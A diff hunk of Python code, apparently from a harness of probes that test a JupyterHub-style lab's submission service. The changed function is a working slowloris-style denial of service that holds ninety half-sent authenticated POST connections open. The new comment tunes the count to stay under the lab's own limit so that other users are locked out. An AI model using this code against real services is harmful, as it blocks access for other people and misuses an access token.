@@ -343,12 +343,13 @@ def fetch_others_feedback(facts: Facts) -> Outcome:
 
 @attempt(SERVICE, open="held", note=NO_FILES)
 def hold_the_exchange(facts: Facts) -> Outcome:
-    """Begin three hundred submissions and never end them, so that nobody else gets in."""
+    """Begin ninety submissions at once and never end them, so that nobody else gets in."""
     connections = []
     head = f"POST {submissions(facts)} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n"
     token = os.environ["JUPYTERHUB_API_TOKEN"]
     try:
-        for _ in range(300):
+        # The lab's own door lets a hundred through; past that only its owner is shut out.
+        for _ in range(90):
             connection = socket.create_connection(service(), timeout=5)
             connections.append(connection)
             connection.sendall(f"{head}Authorization: token {token}\r\n\r\n".encode())
